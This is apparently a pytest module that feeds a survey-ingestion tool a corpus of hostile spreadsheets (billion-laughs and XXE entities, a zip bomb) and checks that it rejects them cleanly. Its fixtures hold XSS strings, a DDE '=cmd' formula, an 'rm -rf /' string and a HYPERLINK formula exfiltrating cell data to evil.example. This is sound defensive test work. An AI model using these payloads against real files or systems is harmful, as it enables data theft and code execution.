"""Hostile and broken returns, end to end, through the real `urbsurvey` console script.

One batch folder holds every file of the corpus (empty, renamed, truncated, damaged,
XML attacks, a zip bomb, absurd dimensions, encrypted, macros, formulas, links, edited
layouts, duplicates, control characters, a 40,000-character answer) next to three good
returns (Venice, Amadora, Sevilla) whose free texts, notes and respondent fields carry
formula-like text and markup. `validate`, `ingest` and `report` run over the whole
folder as a secretariat would, without reading each file first; each must name every
bad file (and sheet and cell) with what to do, process the other files normally,
store no partial submission, leave the inputs untouched and never show a traceback.

The reader-level corpus (each attack on `read_workbook` alone, Rust panics included)
is in test_reader_hostile.py; this module checks what a user sees.
"""

from __future__ import annotations

import hashlib
import html
import json
import os
import re
import shutil
import sqlite3
import subprocess
import time
import zipfile
from collections.abc import Callable, Mapping
from contextlib import closing
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from urbsurvey.issues import CATALOGUE, IssueCode
from urbsurvey.report.render import md_escape
from urbsurvey.resources import load_questionnaire
from urbsurvey.workbook import contract
from urbsurvey.workbook.cells import MAX_CELL_CHARS
from urbsurvey.workbook.partners import _RESERVED_NAMES

from .support.convert import SOFFICE
from .support.documents import md_tables, unescaped_pipes
from .support.script import URBSURVEY
from .support.workbooks import (
    MILE,
    MILE_FULL,
    MILE_REQUIRED,
    answers_sheet,
    as_format,
    duplicate_row,
    filled,
    make_xlsm,
    merge_answers,
    move_header_down,
    rename_sheet,
    rewrite_zip,
    row_of,
    sheet_part,
    where,
)

FIXTURES = Path(__file__).parent / "fixtures"
TIMEOUT = 120  # seconds, for any one command over the whole batch
T0 = 1_200_000_000  # file times set explicitly: "the newest file" never depends on the clock
SECRET = "TOP-SECRET-PARTNER-DATA-4711"


pytestmark = pytest.mark.skipif(
    URBSURVEY is None, reason="the urbsurvey console script is not installed"
)
needs_soffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")


@dataclass(frozen=True)
class Run:
    args: tuple[str, ...]
    returncode: int
    stdout: str
    stderr: str
    seconds: float


def urbsurvey(*args: str | Path, cwd: Path | None = None, columns: int | None = None) -> Run:
    """The real console script in a subprocess; stdout/stderr as text, no terminal."""
    assert URBSURVEY is not None
    env = dict(os.environ)
    if columns is not None:
        env["COLUMNS"] = str(columns)
    argv = (URBSURVEY, *map(str, args))
    start = time.perf_counter()
    done = subprocess.run(
        argv, cwd=cwd, env=env, capture_output=True, text=True, timeout=TIMEOUT, check=False
    )
    return Run(argv, done.returncode, done.stdout, done.stderr, time.perf_counter() - start)


def assert_clean(run: Run) -> None:
    """No traceback, and no Python exception name, anywhere the user looks."""
    for stream in (run.stdout, run.stderr):
        assert "Traceback" not in stream, stream[-3000:]
        assert not re.search(r"^\w+(Error|Exception): ", stream, re.M), stream[-3000:]
    assert run.seconds < TIMEOUT


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# ------------------------------------------------------------------------- hostile strings

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
JS_LINK = "[details](javascript:alert(1))"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?c="&A1,"Click for details")'

#: Case 8, typed into Venice's free texts as TEXT cells (what '=1+2 in Excel gives).
FORMULA_LIKE: dict[str, str] = {
    "ulsg_sustaining": "=1+2",
    "lap_unplanned": "+1 more desk than planned",
    "local_impact_details": "-1",
    "ma_relation": "@SUM(A1:A9)",
    "barriers": HYPERLINK,
    # raw_text trims the whitespace around every answer: the tab goes, the text stays.
    "barriers_overcome": "\t=2+3",
}
#: Case 9, typed into Amadora's free texts.
MARKUP: dict[str, str] = {
    "ulsg_sustaining": SCRIPT,
    "lap_unplanned": IMG,
    "local_impact_details": JS_LINK,
    "ma_relation": "Region | Province || City",
    "barriers": "`rm -rf /` and ```code``` ticks",
    "barriers_overcome": "First line\nSecond line | with a pipe\n\nThird line",
}
#: Partner-visible fields beyond the answers: respondent block and Notes.
RESPONDENT: dict[str, dict[str, str]] = {
    "venice.xlsx": {"respondent.organisation": '=HYPERLINK("http://evil.example","Comune")'},
    "amadora.xlsx": {"respondent.organisation": "<script>alert('org')</script> & Co | `x`"},
    "sevilla.xlsx": {"respondent.name": "@Ana <b>Ruiz</b>"},
}
NOTES: dict[str, dict[str, str]] = {
    "venice.xlsx": {"funding_sources": "=cmd|' /C calc'!A0"},
    "amadora.xlsx": {"ma_relation": '<a href="javascript:alert(2)">see note</a>'},
    "sevilla.xlsx": {"barriers": "+SUM(1) | <svg onload=alert(3)>"},
}
GOOD = {"venice.xlsx": "Venice", "amadora.xlsx": "Amadora", "sevilla.xlsx": "Sevilla"}
GOOD_TEXT = {"venice.xlsx": FORMULA_LIKE, "amadora.xlsx": MARKUP, "sevilla.xlsx": {}}
FULL_QUESTIONS = {q for q in MILE_FULL if not q.startswith("respondent.")}

CONTROL = "Staff\x07 turnover\x0b and budgets\x1b"
LONG = ("The LSG met every month and kept minutes. " * 1000)[:40_000]


def typed_as_text(column: str, values: Mapping[str, str]) -> Callable[[Any], None]:
    """An edit: `values` typed into `column` (Answer or Notes) as text cells, never formulas."""
    col = {"Answer": 3, "Notes": 5}[column]

    def edit(wb: Any) -> None:
        ws = answers_sheet(wb)
        for qid, value in values.items():
            cell = ws.cell(row=row_of(ws, qid), column=col)
            cell.value = value
            cell.data_type = "s"

    return edit


def hide_responses(wb: Any) -> None:
    wb[contract.RESPONSES_SHEET].sheet_state = "hidden"
    wb.active = wb.sheetnames.index(contract.INSTRUCTIONS_SHEET)


# ------------------------------------------------------------------------- hand-made packages

_CT = b"http://schemas.openxmlformats.org/package/2006/content-types"
_REL = b"http://schemas.openxmlformats.org/package/2006/relationships"
_DOC = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def tiny_xlsx(path: Path, sheet_data: bytes) -> Path:
    """A minimal one-sheet (`Responses`) .xlsx written part by part."""
    parts = {
        "[Content_Types].xml": b'<Types xmlns="' + _CT + b'"><Default Extension="rels" '
        b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/><Override '
        b'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        "_rels/.rels": b'<Relationships xmlns="' + _REL + b'"><Relationship Id="rId1" Type="'
        + _DOC + b'/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<workbook xmlns="' + _MAIN + b'" xmlns:r="' + _DOC + b'"><sheets>'
        b'<sheet name="Responses" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="' + _REL + b'"><Relationship '
        b'Id="rId1" Type="' + _DOC + b'/worksheet" Target="worksheets/sheet1.xml"/>'
        b"</Relationships>",
        "xl/worksheets/sheet1.xml": b'<worksheet xmlns="' + _MAIN + b'"><sheetData>'
        + sheet_data + b"</sheetData></worksheet>",
    }  # fmt: skip
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def replace_part(path: Path, part: str, data: bytes) -> Path:
    return rewrite_zip(path, lambda name, old: data if name == part else old)


SST_MARKER = "URBSURVEY-SHARED-STRING-0"


def with_shared_strings(path: Path, strings: bytes) -> Path:
    """The answer cell typed as SST_MARKER made to read shared string 0 of `strings`.

    openpyxl writes inline strings only, so the part, its relationship and its content
    type are added, as Excel has them.
    """
    part = sheet_part(path)
    inline = re.compile(rb'(?<=\s)t="inlineStr"><is><t>' + SST_MARKER.encode() + rb"</t></is>")

    def transform(name: str, data: bytes) -> bytes:
        if name == part:
            data, count = inline.subn(b't="s"><v>0</v>', data)
            assert count == 1
        elif name == "xl/_rels/workbook.xml.rels":
            data = data.replace(
                b"</Relationships>",
                b'<Relationship Type="' + _DOC + b'/sharedStrings" Target="sharedStrings.xml" '
                b'Id="rIdStrings" /></Relationships>',
            )
        elif name == "[Content_Types].xml":
            data = data.replace(
                b"</Types>",
                b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>',
            )
        return data

    return rewrite_zip(path, transform, add={"xl/sharedStrings.xml": strings})


def sst(text: bytes, doctype: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0"?>' + doctype + b'<sst xmlns="' + _MAIN + b'" count="1" '
        b'uniqueCount="1"><si><t>' + text + b"</t></si></sst>"
    )


LAUGHS = sst(
    b"&lol9;",
    b'<!DOCTYPE sst [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>",
)


def external_entity(secret: Path) -> bytes:
    uri = secret.as_uri().encode()
    return sst(b"&xxe;", b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "' + uri + b'">]>')


# ------------------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class At:
    """A cell found in the built workbook by its question's row (never a fixed number)."""

    qid: str
    column: str = "Answer"
    below: int = 0  # rows below the question's (first) row

    def resolve(self, path: Path) -> tuple[str, str]:
        sheet, cell = where(path, self.qid, self.column)
        m = re.fullmatch(r"([A-Z]+)(\d+)", cell)
        assert m is not None
        return sheet, f"{m.group(1)}{int(m.group(2)) + self.below}"


Cell = At | None
R = contract.RESPONSES_SHEET

#: (file, code, severity, sheet, cell): the corpus at a glance. Cases 1-7 and 10.
ISSUES: list[tuple[str, str, str, str | None, Cell]] = [
    # 1. not a workbook, or a damaged one
    ("1-empty.xlsx", "empty-file", "error", None, None),
    ("1-csv-renamed.xlsx", "not-a-spreadsheet", "error", None, None),
    ("1-pdf-renamed.xlsx", "not-a-spreadsheet", "error", None, None),
    ("1-truncated.xlsx", "corrupt-file", "error", None, None),
    ("1-zip-without-workbook.xlsx", "not-a-spreadsheet", "error", None, None),
    ("1-malformed-styles.xlsx", "corrupt-file", "error", None, None),
    # 2. XML attacks
    ("2-billion-laughs.xlsx", "corrupt-file", "error", None, None),
    ("2-external-entity.xlsx", "corrupt-file", "error", None, None),
    # 3. too large
    ("3-zip-bomb.xlsx", "file-too-large", "error", None, None),
    ("3-a1-and-xfd1048576.xlsx", "file-too-large", "error", R, None),
    # 4. password-protected (committed fixtures)
    ("4-encrypted.xlsx", "encrypted-file", "error", None, None),
    ("4-encrypted.xls", "encrypted-file", "error", None, None),
    ("4-encrypted.ods", "encrypted-file", "error", None, None),
    # 5. macros, formulas, links
    ("5-macros.xlsm", "macros-present", "warning", None, None),
    ("5-formula-no-value.xlsx", "formula-no-value", "error", R, At("lap_actions_implemented")),
    ("5-external-link.xlsx", "external-link", "warning", R, At("funding_secured")),
    # 6. the Responses sheet edited
    ("6-merged-answer.xlsx", "merged-answer", "warning", R, At("ma_relation")),
    ("6-duplicate-question.xlsx", "duplicate-question", "error", R, At("lap_stage", "ID", 1)),
    # 7. the same file twice; two files for one partner and role
    ("resent/venice.xlsx", "duplicate-file", "warning", None, None),
    ("7-lublin.xlsx", "resubmission", "warning", None, None),  # the later file counts
    # 10. control characters, a 40,000-character answer
    ("10-control-characters.xlsx", "control-characters", "warning", R, At("barriers")),
    ("10-long-answer.xlsx", "answer-too-long", "warning", R, At("barriers")),
]
ISSUE_FIELDS = ("file", "code", "severity", "sheet", "cell")
#: What makes a file unreadable (the rest are about answers or files read).
UNREADABLE_CODES = {
    "empty-file",
    "not-a-spreadsheet",
    "corrupt-file",
    "file-too-large",
    "encrypted-file",
}
ISSUE_IDS = [f"{file}:{code}" for file, code, *_ in ISSUES]
#: Every file of the batch and its status in `validate`: corpus first, then the good ones.
STATUS: dict[str, str | tuple[str, ...]] = {
    **{file: "unreadable" for file, code, *_ in ISSUES if code in UNREADABLE_CODES},
    "1-xls-named-xlsx.xlsx": "ok",  # the content decides the format, not the name
    "1-ods-named-xls.xls": "ok",
    "5-macros.xlsm": "warnings",
    "5-formula-no-value.xlsx": "errors",
    "5-external-link.xlsx": "warnings",
    "6-responses-renamed.xlsx": "ok",
    "6-responses-hidden.xlsx": "ok",
    "6-header-moved-down.xlsx": "ok",
    "6-merged-answer.xlsx": "warnings",
    "6-duplicate-question.xlsx": "errors",
    "resent/venice.xlsx": "warnings",
    "7-lublin.xlsx": "warnings",
    "7-lublin-final.xlsx": "ok",
    "10-control-characters.xlsx": "warnings",
    "10-long-answer.xlsx": "warnings",
    **dict.fromkeys(GOOD, ("ok", "warnings")),
}
#: Files LibreOffice makes; without it they are left out and their rows skip.
NEEDS_SOFFICE = {"1-xls-named-xlsx.xlsx", "1-ods-named-xls.xls"}
#: Readable files that answer for a partner, and who.
PARTNERS = {
    "1-xls-named-xlsx.xlsx": "Timisoara",
    "1-ods-named-xls.xls": "Gdansk",
    "5-macros.xlsm": "Lille",
    "5-formula-no-value.xlsx": "Rotterdam",
    "5-external-link.xlsx": "Turin",
    "6-responses-renamed.xlsx": "Malmo",
    "6-responses-hidden.xlsx": "Vantaa",
    "6-header-moved-down.xlsx": "Aarhus",
    "6-merged-answer.xlsx": "Bremen",
    "6-duplicate-question.xlsx": "Leipzig",
    "7-lublin.xlsx": "Lublin",
    "7-lublin-final.xlsx": "Lublin",
    "10-control-characters.xlsx": "Nantes",
    "10-long-answer.xlsx": "Thessaloniki",
    "resent/venice.xlsx": "Venice",
    **GOOD,
}
UNREADABLE = [f for f, s in STATUS.items() if s == "unreadable"]


@dataclass
class Batch:
    folder: Path
    files: list[str]  # relative names, as urbsurvey shows them
    hashes: dict[str, str]  # every file in the folder, before any command ran
    work: Path  # outside the batch: stores, reports
    cells: dict[tuple[str, str], tuple[str, str]] = field(default_factory=dict)

    def assert_untouched(self) -> None:
        now = {
            p.relative_to(self.folder).as_posix(): sha256(p)
            for p in self.folder.rglob("*")
            if p.is_file()
        }
        assert now == self.hashes, "input files were changed, added or removed"

    def where(self, file: str, at: At) -> tuple[str, str]:
        return self.cells[(file, repr(at))]


def _build(folder: Path, work: Path) -> list[str]:
    """Every file of the corpus and the three good returns; their names."""
    names: list[str] = []

    def add(path: Path, seconds: int = 0) -> None:
        os.utime(path, (T0 + seconds, T0 + seconds))
        names.append(path.relative_to(folder).as_posix())

    def fill(name: str, answers: Mapping[str, object], **kw: Any) -> Path:
        return filled(folder, answers, partner=PARTNERS.get(name, "Nobody"), name=name, **kw)

    # the three good returns, hostile text in their free texts, notes and respondent block
    for name, partner in GOOD.items():
        edits = [
            typed_as_text("Answer", {**GOOD_TEXT[name], **RESPONDENT[name]}),
            typed_as_text("Notes", NOTES[name]),
        ]
        add(filled(folder, MILE_FULL, partner=partner, name=name, edit=edits))

    # 1. not a workbook, or a damaged one
    empty = folder / "1-empty.xlsx"
    empty.write_bytes(b"")
    add(empty)
    csv = folder / "1-csv-renamed.xlsx"
    csv.write_text("ID,Answer\nulsg_functioning,formal\nlap_stage,implementing_part\n", "utf-8")
    add(csv)
    pdf = folder / "1-pdf-renamed.xlsx"
    pdf.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
    add(pdf)
    whole = filled(work, MILE_REQUIRED, name="whole.xlsx").read_bytes()
    truncated = folder / "1-truncated.xlsx"
    truncated.write_bytes(whole[: len(whole) // 2])
    add(truncated)
    plain_zip = folder / "1-zip-without-workbook.xlsx"
    with zipfile.ZipFile(plain_zip, "w") as z:
        z.writestr("answers.txt", "ulsg_functioning: formal\n")
    add(plain_zip)
    styles = fill("1-malformed-styles.xlsx", MILE_REQUIRED)
    add(replace_part(styles, "xl/styles.xml", b"<styleSheet><numFmts><numFmt \x00garbage<<"))
    if SOFFICE is not None:  # real .xls and .ods files under the wrong name
        xls = as_format(fill("1-xls-named-xlsx.xlsx", MILE_REQUIRED), "xls", work / "lo")
        shutil.copyfile(xls, folder / "1-xls-named-xlsx.xlsx")
        add(folder / "1-xls-named-xlsx.xlsx")
        ods_source = filled(work, MILE_REQUIRED, partner="Gdansk", name="1-ods-named-xls.xlsx")
        ods = as_format(ods_source, "ods", work / "lo")
        shutil.copyfile(ods, folder / "1-ods-named-xls.xls")
        add(folder / "1-ods-named-xls.xls")

    # 2. XML attacks in the shared strings (which the barriers answer reads)
    attacked = {**MILE_REQUIRED, "barriers": SST_MARKER}
    control = with_shared_strings(filled(work, attacked, name="control.xlsx"), sst(b"Harmless"))
    assert _read_answer(control, "barriers") == "Harmless"  # the construction itself reads
    laughs = fill("2-billion-laughs.xlsx", attacked)
    add(with_shared_strings(laughs, LAUGHS))
    secret = work / "secret.txt"
    xxe = fill("2-external-entity.xlsx", attacked)
    add(with_shared_strings(xxe, external_entity(secret)))

    # 3. a zip bomb (32 MB of zeros in 32 KB) and a 2 KB sheet reaching XFD1048576
    bomb = fill("3-zip-bomb.xlsx", MILE_REQUIRED)
    add(rewrite_zip(bomb, add={"customXml/item1.xml": b"\0" * (32 * 1024 * 1024)}))
    far = tiny_xlsx(
        folder / "3-a1-and-xfd1048576.xlsx",
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>ID</t></is></c></row>'
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
    )
    assert far.stat().st_size < 2048
    add(far)

    # 4. password-protected
    for suffix in ("xlsx", "xls", "ods"):
        copy = folder / f"4-encrypted.{suffix}"
        shutil.copyfile(FIXTURES / f"encrypted.{suffix}", copy)
        add(copy)

    # 5. macros, a formula without a saved value, a link to another workbook
    plain = filled(work, MILE_REQUIRED, partner="Lille", name="lille.xlsx")
    add(make_xlsm(plain, folder / "5-macros.xlsm"))
    add(
        fill(
            "5-formula-no-value.xlsx",
            {**MILE_REQUIRED, "lap_stage": "Being implemented in part"},
            edit=lambda wb: _formula(wb, "lap_actions_implemented", "=1+1"),
        )
    )
    link = fill(
        "5-external-link.xlsx",
        MILE_REQUIRED,
        edit=lambda wb: _formula(wb, "funding_secured", "=SUM('[budget.xlsx]Sheet1'!A1)"),
    )
    part = sheet_part(link)  # Excel saves the last value it fetched beside the formula

    def saved_value(name: str, data: bytes) -> bytes:  # a text result: "EUR 350000"
        if name != part:
            return data
        formula = rb'(<c r="[A-Z]+[0-9]+" s="[0-9]+")(><f>[^<]*</f>)<v(?: ?/>|></v>)'
        return re.sub(formula, rb'\1 t="str"\2<v>EUR 350000</v>', data, count=1)

    add(rewrite_zip(link, saved_value))

    # 6. the Responses sheet renamed, hidden, its header moved down; merged; a row twice
    add(fill("6-responses-renamed.xlsx", MILE_REQUIRED, edit=rename_sheet(R, "Risposte")))
    add(fill("6-responses-hidden.xlsx", MILE_REQUIRED, edit=hide_responses))
    add(fill("6-header-moved-down.xlsx", MILE_REQUIRED, edit=move_header_down(10)))
    add(
        fill(
            "6-merged-answer.xlsx",
            {**MILE_REQUIRED, "ma_relation": "Good relations; separate meetings too."},
            edit=merge_answers("ma_relation", "ma_separate_meetings"),
        )
    )
    add(
        fill(
            "6-duplicate-question.xlsx",
            MILE_REQUIRED,
            edit=duplicate_row("lap_stage", "Discontinued"),
        )
    )

    # 7. the same file twice (resent into another folder), two files for one partner
    (folder / "resent").mkdir()
    shutil.copyfile(folder / "venice.xlsx", folder / "resent" / "venice.xlsx")
    add(folder / "resent" / "venice.xlsx", 100)
    add(fill("7-lublin.xlsx", MILE_REQUIRED), 10)
    add(fill("7-lublin-final.xlsx", {**MILE_REQUIRED, "lap_stage": "Discontinued"}), 20)

    # 10. control characters; a 40,000-character answer
    add(fill("10-control-characters.xlsx", {**MILE_REQUIRED, "barriers": CONTROL}))
    add(fill("10-long-answer.xlsx", {**MILE_REQUIRED, "barriers": LONG}))
    secret.write_text(SECRET, encoding="utf-8")
    return names


def _read_answer(path: Path, qid: str) -> object:
    from urbsurvey.intake.batch import make_context
    from urbsurvey.intake.submission import read_submission

    from .support.workbooks import definition

    sub = read_submission(path, make_context(definition(MILE)))
    assert sub.readable, sub.issues
    return sub.answers[qid].raw


def _formula(wb: Any, qid: str, formula: str) -> None:
    ws = answers_sheet(wb)
    ws.cell(row=row_of(ws, qid), column=3).value = formula  # openpyxl: a formula, no value


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> Batch:
    root = tmp_path_factory.mktemp("hostile")
    folder, work = root / "batch", root / "work"
    folder.mkdir()
    work.mkdir()
    names = _build(folder, work)
    on_disk = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
    assert sorted(names) == on_disk
    expected = {f for f in STATUS if SOFFICE is not None or f not in NEEDS_SOFFICE}
    assert set(names) == expected
    hashes = {name: sha256(folder / name) for name in names}
    result = Batch(folder, sorted(names), hashes, work)
    for file, _code, _sev, _sheet, at in ISSUES:
        if at is not None:
            result.cells[(file, repr(at))] = at.resolve(folder / file)
    return result


def _row(file: str) -> Any:
    marks = [needs_soffice] if file in NEEDS_SOFFICE else []
    return pytest.param(file, marks=marks, id=file)


# ------------------------------------------------------------------------- validate


@pytest.fixture(scope="module")
def validated(batch: Batch) -> dict[str, Any]:
    run = urbsurvey("validate", batch.folder, "--format", "json")
    assert_clean(run)
    assert run.returncode == 1, run.stderr
    assert run.stderr == ""  # no progress bar, no message: standard error is not a terminal
    batch.assert_untouched()
    data: dict[str, Any] = json.loads(run.stdout)
    return data


def _file(data: dict[str, Any], name: str) -> dict[str, Any]:
    matches: list[dict[str, Any]] = [f for f in data["files"] if f["file"] == name]
    assert len(matches) == 1, [f["file"] for f in data["files"]]
    return matches[0]


def test_validate_lists_every_file_once(batch: Batch, validated: dict[str, Any]) -> None:
    assert sorted(f["file"] for f in validated["files"]) == batch.files
    assert validated["questionnaire"]["id"] == MILE
    summary = validated["summary"]
    assert summary["files"] == len(batch.files)
    assert summary["unreadable"] == len(UNREADABLE)
    for f in validated["files"]:
        assert f["sha256"] == batch.hashes[f["file"]]


@pytest.mark.parametrize("file", [_row(f) for f in STATUS])
def test_validate_status(batch: Batch, validated: dict[str, Any], file: str) -> None:
    entry = _file(validated, file)
    expected = STATUS[file]
    assert entry["status"] in (expected if isinstance(expected, tuple) else (expected,)), entry
    if entry["status"] == "unreadable":
        assert entry["answers"] == 0 and entry["partner"] is None
        assert entry["errors"] >= 1
    else:
        assert entry["partner"] == PARTNERS[file]
        assert entry["answers"] >= len(MILE_REQUIRED)


@pytest.mark.parametrize(ISSUE_FIELDS, ISSUES, ids=ISSUE_IDS)
def test_validate_issue(
    batch: Batch,
    validated: dict[str, Any],
    file: str,
    code: str,
    severity: str,
    sheet: str | None,
    cell: Cell,
) -> None:
    expected_cell = None
    if cell is not None:
        found_sheet, expected_cell = batch.where(file, cell)
        assert found_sheet == sheet
    matching = [i for i in validated["issues"] if i["file"] == file and i["code"] == code]
    assert len(matching) == 1, [i for i in validated["issues"] if i["file"] == file]
    issue = matching[0]
    assert (issue["severity"], issue["sheet"], issue["cell"]) == (severity, sheet, expected_cell)
    assert issue["hint"] == CATALOGUE[IssueCode(code)].hint  # says what to do
    if file in UNREADABLE:
        assert file in issue["message"]  # the reader's message names the file too


def test_validate_each_file_has_only_its_own_issues(
    batch: Batch, validated: dict[str, Any]
) -> None:
    """No corpus file gets a stray error besides the expected one (a bad file stays contained)."""
    expected: dict[str, set[str]] = {f: set() for f in batch.files}
    for file, code, *_ in ISSUES:
        expected[file].add(code)
    got: dict[str, set[str]] = {f: set() for f in batch.files}
    for issue in validated["issues"]:
        got[issue["file"]].add(issue["code"])
    assert got == expected


def test_validate_reads_the_good_returns_whole(batch: Batch, validated: dict[str, Any]) -> None:
    for name, partner in GOOD.items():
        entry = _file(validated, name)
        assert (entry["partner"], entry["role"], entry["status"]) == (partner, "city", "ok")
        assert entry["answers"] == len(FULL_QUESTIONS)


@needs_soffice
def test_validate_decides_the_format_by_content(validated: dict[str, Any]) -> None:
    assert _file(validated, "1-xls-named-xlsx.xlsx")["format"] == "xls"
    assert _file(validated, "1-ods-named-xls.xls")["format"] == "ods"
    assert _file(validated, "5-macros.xlsm")["format"] == "xlsm"


def test_validate_never_shows_an_external_entity(batch: Batch, validated: dict[str, Any]) -> None:
    assert SECRET not in json.dumps(validated)
    assert "lollol" not in json.dumps(validated)


def test_validate_table_names_every_file(batch: Batch) -> None:
    run = urbsurvey("validate", batch.folder, columns=250)
    assert_clean(run)
    assert run.returncode == 1
    for name in batch.files:
        assert name in run.stdout, name
    for file, code, *_ in ISSUES:
        assert re.search(rf"{re.escape(code)} {re.escape(file)}\b", run.stdout), (file, code)
    batch.assert_untouched()


def test_validate_table_in_a_narrow_terminal_has_no_traceback(batch: Batch) -> None:
    run = urbsurvey("validate", batch.folder, columns=60)
    assert_clean(run)
    assert run.returncode == 1
    assert f"{len(batch.files)} files:" in run.stdout


# ------------------------------------------------------------------------- ingest


@dataclass
class Ingested:
    run: Run
    output: dict[str, Any]
    store: Path


@pytest.fixture(scope="module")
def ingested(batch: Batch) -> Ingested:
    store = batch.work / "survey.sqlite"
    run = urbsurvey("ingest", batch.folder, "--store", store, "--format", "json")
    assert_clean(run)
    batch.assert_untouched()
    return Ingested(run, json.loads(run.stdout), store)


def query(store: Path, sql: str, *args: object) -> list[tuple[Any, ...]]:
    with closing(sqlite3.connect(store)) as db:
        return db.execute(sql, args).fetchall()


def test_ingest_exits_1_for_the_errors(ingested: Ingested) -> None:
    assert ingested.run.returncode == 1
    assert query(ingested.store, "PRAGMA integrity_check") == [("ok",)]


def test_ingest_stores_every_content_exactly_once(batch: Batch, ingested: Ingested) -> None:
    rows = query(ingested.store, "SELECT file, sha256 FROM submissions")
    stored = [file for file, _ in rows]
    assert sorted(stored) == sorted(set(batch.files) - {"resent/venice.xlsx"})
    assert len({sha for _, sha in rows}) == len(rows) == len(set(batch.hashes.values()))
    for file, sha in rows:
        assert sha == batch.hashes[file]
    duplicate = [i for i in ingested.output["issues"] if i["code"] == "duplicate-file"]
    assert [i["file"] for i in duplicate] == ["resent/venice.xlsx"]


@pytest.mark.parametrize("file", [_row(f) for f in UNREADABLE])
def test_ingest_keeps_unreadable_files_with_their_issue(ingested: Ingested, file: str) -> None:
    (row,) = query(
        ingested.store,
        "SELECT id, readable, status, partner FROM submissions WHERE file=?",
        file,
    )
    sid, readable, status, partner = row
    assert (readable, status, partner) == (0, "unreadable", None)
    assert query(ingested.store, "SELECT count(*) FROM answers WHERE submission_id=?", sid) == [
        (0,)
    ]
    (expected,) = [code for f, code, *_ in ISSUES if f == file]
    codes = [
        c for (c,) in query(ingested.store, "SELECT code FROM issues WHERE submission_id=?", sid)
    ]
    assert codes == [expected]


def test_ingest_good_returns_have_every_answer_verbatim(ingested: Ingested) -> None:
    for name, partner in GOOD.items():
        ((sid, readable, respondent),) = query(
            ingested.store,
            "SELECT id, readable, respondent FROM submissions WHERE file=? AND partner=?",
            name,
            partner,
        )
        assert readable == 1
        answers = dict(
            query(ingested.store, "SELECT question, raw FROM answers WHERE submission_id=?", sid)
        )
        assert set(answers) == FULL_QUESTIONS
        for qid, text in GOOD_TEXT[name].items():
            assert answers[qid] == text, qid
        for field_id, text in RESPONDENT[name].items():
            assert json.loads(respondent)[field_id] == text
        notes = dict(
            query(ingested.store, "SELECT question, note FROM answers WHERE submission_id=?", sid)
        )
        for qid, note in NOTES[name].items():
            assert notes[qid] == note


def test_ingest_keeps_long_and_control_answers_whole(ingested: Ingested) -> None:
    raw = dict(
        query(
            ingested.store,
            "SELECT s.file, a.raw FROM answers a JOIN submissions s ON s.id = a.submission_id"
            " WHERE a.question = 'barriers'",
        )
    )
    assert raw["10-long-answer.xlsx"] == LONG
    assert len(raw["10-long-answer.xlsx"]) >= 40_000 - 1
    assert raw["10-control-characters.xlsx"] == CONTROL


def test_ingest_supersedes_the_older_of_two_files_for_one_partner(ingested: Ingested) -> None:
    rows = query(
        ingested.store,
        "SELECT file, superseded_by IS NULL FROM submissions WHERE partner='Lublin' ORDER BY id",
    )
    assert rows == [("7-lublin.xlsx", 0), ("7-lublin-final.xlsx", 1)]


def test_ingest_again_adds_nothing(batch: Batch, ingested: Ingested) -> None:
    before = query(ingested.store, "SELECT count(*) FROM submissions")
    run = urbsurvey("ingest", batch.folder, "--store", ingested.store, "--format", "json")
    assert_clean(run)
    out = json.loads(run.stdout)
    assert out["added"] == []
    assert query(ingested.store, "SELECT count(*) FROM submissions") == before
    assert run.returncode == 0, out["issues"]  # only the duplicate's warning is left
    batch.assert_untouched()


def test_ingest_rerun_over_an_unchanged_batch_is_silent(batch: Batch) -> None:
    store = batch.work / "rerun.sqlite"
    first = urbsurvey("ingest", batch.folder, "--store", store, "--format", "json")
    assert_clean(first)
    second = urbsurvey("ingest", batch.folder, "--store", store, "--format", "json")
    assert_clean(second)
    out = json.loads(second.stdout)
    assert [(i["file"], i["code"]) for i in out["issues"]] == []
    assert out["unchanged"] == len(batch.files)


def test_the_store_holds_no_external_entity(ingested: Ingested) -> None:
    with closing(sqlite3.connect(ingested.store)) as db:
        dump = "\n".join(db.iterdump())
    assert SECRET not in dump


# ------------------------------------------------------------------------- report

REPORT_FORMATS = ("json", "html", "md", "xlsx")


@pytest.fixture(scope="module")
def reports(batch: Batch) -> dict[str, Path]:
    out: dict[str, Path] = {}
    for fmt in REPORT_FORMATS:
        target = batch.work / f"report.{fmt}"
        run = urbsurvey(
            "report", batch.folder, "--questionnaire", MILE, "--format", fmt, "-o", target
        )
        assert_clean(run)
        assert run.returncode == 0, run.stderr
        assert target.is_file()
        out[fmt] = target
    # --strict fails on the data errors, cleanly
    strict = urbsurvey(
        "report", batch.folder, "--questionnaire", MILE, "--format", "json", "--strict"
    )
    assert_clean(strict)
    assert strict.returncode == 1
